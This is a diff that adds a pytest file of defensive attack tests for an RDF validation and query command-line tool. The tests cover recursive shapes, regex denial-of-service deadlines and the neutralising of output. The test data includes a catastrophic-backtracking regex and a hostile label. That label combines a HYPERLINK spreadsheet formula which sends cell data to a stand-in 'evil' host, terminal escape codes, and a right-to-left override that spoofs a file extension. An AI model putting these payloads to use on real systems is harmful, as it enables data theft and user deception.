@@ -1,0 +1,104 @@
+"""Clean refusals (issue 15, part 4): recursive shapes, runaway regular expressions.
+
+Deadlines are checked as "stopped well before the work would end", never as timings of the
+work itself: the catastrophic pattern below would run for hours.
+"""
+
+from __future__ import annotations
+
+import time
+from pathlib import Path
+
+import pytest
+
+from tests.attacks.conftest import cli
+
+EVIL = "a" * 40 + "!"  # "^(a+)+$" backtracks 2**40 times on it in Python's re
+DOSSIER = f"""@prefix sk: <https://w3id.org/sourcing-kg/def#> .
+<https://example.org/d/redos> a sk:Dossier ; sk:naam "{EVIL}" .
+"""
+REDOS_SHAPES = """@prefix sh: <http://www.w3.org/ns/shacl#> .
+@prefix sk: <https://w3id.org/sourcing-kg/def#> .
+<urn:x:S> a sh:NodeShape ; sh:targetClass sk:Dossier ;
+  sh:property [ sh:path sk:naam ; sh:pattern "^(a+)+$" ] .
+"""
+REDOS_QUERY = 'SELECT ?s WHERE { ?s ?p ?o FILTER(REGEX(STR(?o), "^(a+)+$")) }'
+
+RECURSIVE = {
+    "sh:node": "<urn:x:A> sh:node <urn:x:B> . <urn:x:B> sh:node <urn:x:A> .",
+    "sh:property": "<urn:x:A> sh:property [ sh:path <urn:x:p> ; sh:node <urn:x:A> ] .",
+    "sh:or": "<urn:x:A> sh:or ( [ sh:node <urn:x:A> ] ) .",
+    "sh:not": "<urn:x:A> sh:not [ sh:not <urn:x:A> ] .",
+}
+
+
+@pytest.mark.parametrize("via", RECURSIVE)
+def test_recursive_shapes_are_refused(via: str, tmp_path: Path) -> None:
+    dossier = tmp_path / "d.ttl"
+    dossier.write_text(DOSSIER.replace(EVIL, "x"))
+    shapes = tmp_path / "recursive.ttl"
+    shapes.write_text(
+        "@prefix sh: <http://www.w3.org/ns/shacl#> .\n"
+        "@prefix sk: <https://w3id.org/sourcing-kg/def#> .\n"
+        f"<urn:x:A> a sh:NodeShape ; sh:targetClass sk:Dossier .\n{RECURSIVE[via]}\n"
+    )
+    result = cli("validate", dossier, "--shapes", shapes)
+    assert result.code == 3, result.err
+    assert f"{shapes}: recursive shapes are refused" in result.err
+
+
+@pytest.mark.slow
+def test_validation_deadline_holds_against_a_runaway_pattern(tmp_path: Path) -> None:
+    dossier = tmp_path / "d.ttl"
+    dossier.write_text(DOSSIER)
+    shapes = tmp_path / "redos.ttl"
+    shapes.write_text(REDOS_SHAPES)
+    started = time.monotonic()
+    result = cli("validate", dossier, "--shapes", shapes, "--timeout", "5")
+    assert result.code == 6, result.err
+    assert "deadline of 5 s" in result.err
+    assert time.monotonic() - started < 120  # stopped, not hours later
+
+
+@pytest.mark.slow
+def test_query_deadline_holds_against_a_runaway_regex(tmp_path: Path) -> None:
+    data = tmp_path / "d.ttl"
+    data.write_text(DOSSIER)
+    query = tmp_path / "redos.rq"
+    query.write_text(REDOS_QUERY)
+    started = time.monotonic()
+    result = cli("query", query, "--data", data, "--timeout", "3")
+    assert result.code == 6, result.err
+    assert "deadline of 3 s" in result.err
+    assert time.monotonic() - started < 60
+
+
+HOSTILE_NAME = '=HYPERLINK("http://evil/"&A1)\x1b[2J\x1b]0;pwned\x07\u202egnp.exe'
+
+
+def test_outputs_are_neutralised_for_their_medium(tmp_path: Path) -> None:
+    data = tmp_path / "d.ttl"
+    data.write_text(
+        "@prefix rdfs: <http://www.w3.org/2000/01/rdf-schema#> .\n"
+        f"<urn:x:a> rdfs:label {json_string(HOSTILE_NAME)} .\n"
+    )
+    query = tmp_path / "q.rq"
+    query.write_text(
+        "SELECT ?naam WHERE { <urn:x:a> <http://www.w3.org/2000/01/rdf-schema#label> ?naam }"
+    )
+    csv_out = cli("query", query, "--data", data, "--format", "csv")
+    assert csv_out.code == 0, csv_out.err
+    cell = csv_out.out.splitlines()[1]
+    assert cell.lstrip('"').startswith("'=HYPERLINK")  # a text, never a formula
+    for fmt in ("csv", "table", "md", "json"):
+        shown = cli("query", query, "--data", data, "--format", fmt).out
+        assert "\x1b" not in shown and "\x07" not in shown and "\u202e" not in shown, fmt
+        assert "x1b" in shown or fmt == "json", fmt
+    markdown = cli("query", query, "--data", data, "--format", "md").out
+    assert '\\(\\"' not in markdown and "=HYPERLINK" in markdown
+
+
+def json_string(text: str) -> str:
+    import json
+
+    return json.dumps(text)
